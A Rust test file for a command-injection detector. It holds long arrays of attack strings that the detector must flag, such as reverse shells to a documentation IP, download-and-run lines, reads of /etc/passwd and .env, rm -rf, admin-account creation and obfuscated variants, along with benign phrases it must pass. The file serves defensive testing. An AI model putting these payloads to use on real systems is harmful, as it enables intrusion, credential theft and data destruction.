//! Attacks and ordinary texts.

use super::detect;
use crate::detect::{ByteSet, Hits, Text};

/// The rules that a text meets, and their sum.
fn met(text: &str) -> (u16, Vec<&'static str>) {
    let lower = text.to_ascii_lowercase();
    let mut hits = Hits::default();
    let bytes = ByteSet::of(text.as_bytes());
    detect(Text { raw: text.as_bytes(), lower: lower.as_bytes(), bytes }, &mut hits);
    (hits.list().iter().map(|hit| hit.rule.score).sum(), hits.list().iter().map(|hit| hit.rule.id).collect())
}

#[test]
fn each_rule_has_an_attack_that_meets_it() {
    let attacks = [
        ("cmd-semicolon-chain", "10.0.0.1;id"),
        ("cmd-and-chain", "report.pdf && cat /etc/passwd"),
        ("cmd-pipe-chain", "x| ls -la /home"),
        ("cmd-line-chain", "10.0.0.1\n/usr/bin/id"),
        ("cmd-backtick", "a`whoami`"),
        ("cmd-dollar-paren", "$(cat /etc/shadow)"),
        ("cmd-bare", "cat /etc/passwd"),
        ("cmd-in-prose", "I tried `whoami` here"),
        ("cmd-function-call", "x'); system('ls'); //"),
        ("cmd-blank-variable", "a;cat${IFS}notes"),
        ("cmd-bash-reverse", "exec 5<>/dev/tcp/203.0.113.5/443"),
        ("cmd-reverse-shell", "ruby -rsocket -e 'exit if fork;c=TCPSocket.new(\"h\",1);exec c.gets'"),
        ("cmd-netcat", "ncat 203.0.113.5 4444 -e /bin/bash"),
        ("cmd-shellshock", "() { ignored; }; echo hit"),
        ("cmd-server-include", "<!--#exec cmd=\"ls\" -->"),
        ("cmd-php-code", "<?php echo shell_exec('ls');"),
        ("cmd-powershell", "powershell -nop -w hidden -enc SQBFAFgA"),
        ("cmd-windows-variable", "%COMSPEC% /x"),
        ("cmd-shell-variable", "${PATH:0:1}bin${PATH:0:1}ls"),
        ("cmd-decode-run", "echo d2hvYW1p | base64 -d | sh"),
        ("cmd-glob-path", "/???/c?t /???/p??s??"),
        ("cmd-escaped-argument", "--upload-pack=`touch x`"),
        ("cmd-spreadsheet", "=cmd|' /C calc'!A0"),
    ];
    for (rule, attack) in attacks {
        assert!(met(attack).1.contains(&rule), "{attack:?} meets {:?}", met(attack).1);
    }
    for rule in super::RULES {
        assert!(attacks.iter().any(|(id, _)| *id == rule.id), "{} has no attack here", rule.id);
    }
}

static BEHIND_A_VALUE: &[&str] = &[
    "127.0.0.1; ls",
    "127.0.0.1;ls -la",
    "127.0.0.1 | id",
    "127.0.0.1|whoami",
    "127.0.0.1 & dir",
    "127.0.0.1 && dir c:\\",
    "127.0.0.1 || uname -a",
    "127.0.0.1%0Acat /etc/passwd;cat /etc/passwd",
    "8.8.8.8;cat /etc/issue",
    "8.8.8.8; sleep 10",
    "file.txt;sleep 5;",
    "file.txt|sleep 7",
    "x;ping -c 10 127.0.0.1",
    "x & ping -n 20 127.0.0.1 &",
    "x;nslookup a.example.org",
    "x|nslookup $(whoami).a.example.org",
    "x;curl http://203.0.113.9/x",
    "x;wget http://203.0.113.9/x -O /tmp/x",
    "x && wget http://h.example/a.sh",
    "x;curl 203.0.113.9|sh",
    "x;bash -i >& /dev/tcp/203.0.113.9/9001 0>&1",
    "x;nc -e /bin/sh 203.0.113.9 1234",
    "x|nc 203.0.113.9 80",
    "x;rm -rf /",
    "x; rm -rf /var/www",
    "x;cat config.php",
    "x;cat .env",
    "x; head -n 5 /etc/group",
    "x;grep root /etc/passwd",
    "x;find / -perm -4000",
    "x;python -c 'import os;os.system(\"id\")'",
    "x;perl -e 'print 1'",
    "x;php -r 'phpinfo();'",
    "x;ruby -e 'puts 1'",
    "x;echo 1234567",
    "x;echo $PATH",
    "x;id;",
    "x|id|",
    "x\nid\n",
    "x;id #",
    "x' ; id ; '",
    "x\"; id; \"",
    "x');id;('",
    "$(id)",
    "`id`",
    "`sleep 5`",
    "a$(sleep 5)b",
    "$(curl http://203.0.113.9)",
    "`curl http://203.0.113.9`",
    "x;reboot",
    "x & net user",
    "x & ipconfig /all",
    "x & systeminfo",
    "x & type c:\\boot.ini",
    "x|type %SYSTEMROOT%\\win.ini",
    "x & tasklist",
    "x && net user evil Passw0rd /add",
    "x&whoami",
    "x&&whoami",
    "x||whoami",
    "x;whoami",
    "x;/bin/ls",
    "x;/bin/cat /etc/hosts",
    "x;/usr/bin/whoami",
    "x;cmd.exe /c dir",
    "x&cmd /c ping 127.0.0.1",
    "x|powershell Get-Process",
    "x & powershell.exe -c whoami",
    "x;mail a@example.org < /etc/passwd",
    "x; tail /var/log/syslog",
    "x;ls /",
    "x;ls ..",
    "x;ls *",
    "x; pwd",
    "x;ifconfig",
    "x;ps aux",
    "x;env",
    "x;hostname",
    "x; uptime",
    "x;netstat -an",
    "x;last -a;id",
    "x;which python",
    "x;cat</etc/passwd",
    "x;cat<etc/passwd",
    "x;$(<'/etc/passwd')",
    "x;echo vulnerable>/var/www/html/t.txt",
    "x;telnet 203.0.113.9 25",
    "x;dig a.example.org",
    "x;touch /tmp/x",
    "x;chmod 777 /tmp/x",
    "x;sh -c id",
    "x;bash -c 'ls'",
    "& ping 203.0.113.9 &",
    "| cat /etc/passwd",
    "; cat /etc/passwd;",
    "|| cat /etc/passwd",
    "\"|cat /etc/passwd",
    ";ls",
    "| ls",
    "&& ls",
    "!;ls",
    "q=1;ls",
    "\n/bin/ls -al\n",
    "x;sudo id",
    "x;X=1 id",
    "<(id)",
    "x >(id)",
    "x;(id)",
    "x;{ id; }",
    "|dir",
    "&dir",
    "; dir",
    "|set /a 11*11",
    "x|sort /etc/passwd",
    "x|more /etc/passwd",
    "test;cat /etc/passwd|base64",
    "hello world; cat /etc/passwd",
    "nothing to see && whoami",
    "x;. /tmp/x",
    "x;xargs id",
    "|tee x",
    ";who",
    ";date",
    "&ver",
    "x;rpm -qa",
    "a]&&id&&[a",
    "x;X=$'cat\\x20/etc/passwd'&&$X",
    "| mount",
    "&set&",
    "';exit(md5('x'));//",
    "x;socat tcp-connect:203.0.113.9:1 exec:sh",
    "x;socat - tcp:203.0.113.9:1",
    "x;docker ps",
    "x;docker run -v /:/mnt alpine sh",
    "x;java -jar x.jar",
    "x;waitfor /t 5 pause",
    "x;awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/1\"}'",
];

#[test]
fn commands_behind_a_value_are_attacks() {
    let missed: Vec<_> = BEHIND_A_VALUE.iter().filter(|attack| met(attack).0 < 5).collect();
    assert!(missed.is_empty(), "not found: {missed:#?}");
}

static DISGUISED: &[&str] = &[
    "w'h'o'am'i",
    "w\"h\"oami",
    "x;w'h'oami",
    "x;wh\\oami",
    "x;c\\at /et\\c/pas\\swd",
    "x;who$@ami",
    "x;wh$1oami",
    "x;who$()ami",
    "x;who``ami",
    "x;/b'i'n/ca't' /e't'c/pa'ss'wd",
    "x;cat$IFS/etc/passwd",
    "x;cat${IFS}/etc/passwd",
    "x;cat$IFS$9/etc/passwd",
    "{cat,/etc/passwd}",
    "x;{cat,/etc/passwd}",
    "x;{ls,-la}",
    "x;{ping,-c,3,203.0.113.9}",
    "x;/???/??t /???/p?sswd",
    "x;/bin/c?t /etc/p?sswd",
    "x;cat /et*/pass*",
    "x;cat /e\"t\"c/pa\"s\"swd",
    "x;$(printf '\\x69\\x64')",
    "x;$(rev<<<'imaohw')",
    "x;echo aWQ=|base64 -d|bash",
    "bash<<<$(base64 -d<<<aWQ=)",
    "x;printf '\\151\\144'|sh",
    "x;eval $(echo 6964|xxd -r -p)",
    "w^h^o^a^m^i",
    "x&w^hoami",
    "x;WHOAMI",
    "x & WhoAmI",
    "x;%COMSPEC% /c id",
    "%PROGRAMFILES:~10,-5%",
    "x;${PATH:0:1}bin${PATH:0:1}cat /etc/passwd",
    "x;sh<(curl 203.0.113.9)",
    "x;cat$u /etc$u/passwd$u",
    "x;c${u}at /etc/passwd",
    "\\n/usr/bin/id\\n",
    "\\nid\\n",
];

#[test]
fn disguised_commands_are_attacks() {
    let missed: Vec<_> = DISGUISED.iter().filter(|attack| met(attack).0 < 5).collect();
    assert!(missed.is_empty(), "not found: {missed:#?}");
}

static CODE: &[&str] = &[
    "system('id')",
    "exec(\"ls -la\")",
    "passthru('cat /etc/passwd');",
    "shell_exec(\"whoami\")",
    "popen('id','r')",
    "eval('ls')",
    "os.system('id')",
    "__import__('os').system('id')",
    "subprocess.call(['ls','-l'])",
    "require('child_process').exec('id')",
    "Runtime.getRuntime().exec(\"id\")",
    "new ProcessBuilder(\"whoami\")",
    "${@system('id')}",
    "{${phpinfo()}}",
    "phpinfo()",
    ";phpinfo();",
    "<?php system($_GET['c']);?>",
    "<?=`id`?>",
    "<?php eval(base64_decode('aWQ='));",
    "assert($_POST['x'])",
    "() { :;}; /bin/ping -c 1 203.0.113.9",
    "() { :; }; echo x",
    "<!--#include virtual=\"/etc/passwd\" -->",
    "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.9\",1))'",
    "perl -e 'use Socket;$i=\"203.0.113.9\";'",
    "php -r '$s=fsockopen(\"203.0.113.9\",1);exec(\"/bin/sh -i\");'",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i",
    "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
    "certutil -urlcache -f http://203.0.113.9/a.exe a.exe",
    "mshta http://203.0.113.9/a.hta",
    "regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll",
    "bitsadmin /transfer j http://203.0.113.9/a c:\\a",
    "wmic process call create calc",
    "rundll32 javascript:\"\\..\\mshtml\"",
    "net localgroup administrators evil /add",
    "reg query HKLM\\SAM",
    "vssadmin delete shadows /all",
];

#[test]
fn code_that_runs_commands_is_an_attack() {
    let missed: Vec<_> = CODE.iter().filter(|attack| met(attack).0 < 5).collect();
    assert!(missed.is_empty(), "not found: {missed:#?}");
}

static TALK: &[&str] = &[
    "echo in the mirror",
    "curl and divergence",
    "fish; chips",
    "a && b",
    "a || b, whatever",
    "You can list files with `ls -la`.",
    "run `npm install`; then cd app",
    "exec noun",
    "bash away in the gym",
    "nc 8000 controller",
    "ls 300 lexus",
    "find the cat; type it in",
    "see you; who knows",
    "first sort, then cut | paste",
    "| id | name |\n|----|------|\n| 1 | Ann |",
    "id;name;date",
    "npm ci && npm run build && npm test; ls dist",
    "cd .. && ls",
    "git log --oneline | head -5",
    "cat file | sort | uniq -c",
    "ps aux | grep nginx | awk '{print $2}'",
    "df -h; free -m; uptime",
    "docker run --rm -v $(pwd):/app node:22",
    "sudo apt-get update && sudo apt-get install -y curl",
    "sleep well; see you",
    "Tom & Jerry | TV",
    "I'd say; id est, no",
    "set -e; make -j4",
    "C:\\Users\\ann\\notes.txt",
    "for (;;) { break; }",
    "x = a | b; y = c & d;",
    "a ? b : c; d",
    "make clean; make",
    "$HOME and ${HOME}",
    "price is $5; or 5$",
    "if (a || b) && c",
    "- `uptime`\n- `id`",
    "system(…) runs a command",
    "Never use eval() or exec()",
    "The host is down; ping me",
    "data:image/png;base64,iVBORw0KGgo=",
    "a=1&id=5&dir=asc&sort=name",
    "text/html; charset=utf-8",
    "Mozilla/5.0 (X11; Linux x86_64; rv:120.0)",
    "whoami, as they say",
    "the net user base; net gain",
    "more; less; most",
    "rm is short for remove",
    "kill the lights; then sleep",
    "date | time | place",
    "golf | tee time",
    "first;last",
    "date;time;top",
    "from date; to date",
    "who is the top; date?",
    "set | mount | who",
    "who; last",
    "pick a docker; ps can wait",
    "query q($id: ID!) { id name author { id } }",
    "docker compose up && docker ps",
    "java; kotlin",
];

#[test]
fn talk_about_commands_is_none() {
    let found: Vec<_> = TALK.iter().filter(|text| met(text).0 >= 5).map(|text| (text, met(text).1)).collect();
    assert!(found.is_empty(), "found: {found:#?}");
}

/// What stands before a payload is the attacker's to choose, and so is its length.
#[test]
fn padding_hides_nothing() {
    let attacks = [
        format!("{};cat /etc/passwd", "a".repeat(40_000)),
        format!("x{}id", ";".repeat(3_000)),
        format!("x;{}cat /etc/passwd", " ".repeat(40_000)),
        format!("x;{}bin/cat /etc/hosts", "/".repeat(300)),
        format!("x;cat {} /etc/passwd", "b ".repeat(40)),
        format!("x;A={} id", "c".repeat(100)),
        format!("{}$(cat /etc/passwd)", "a".repeat(40_000)),
        format!("bash{}-i >& /dev/null", " ".repeat(300)),
        format!("x;{}id", "(".repeat(500)),
        format!("x;cat{}/etc/passwd", " ".repeat(40_000)),
    ];
    let missed: Vec<_> = attacks.iter().filter(|attack| met(attack).0 < 5).map(|text| text.len()).collect();
    assert!(missed.is_empty(), "not found, by their lengths: {missed:?}");
}

#[test]
fn huge_texts_are_read_in_linear_time() {
    // Each of these would take minutes if a step looked at the rest of the text.
    for piece in
        ["`", "$(", "(", "id;", "{", "a|", ";id ", "'a", "\\n", "x;", "(){", "${IFS", "echo ", "<?", "%a:~"]
    {
        let _ = met(&piece.repeat(400_000 / piece.len()));
    }
}
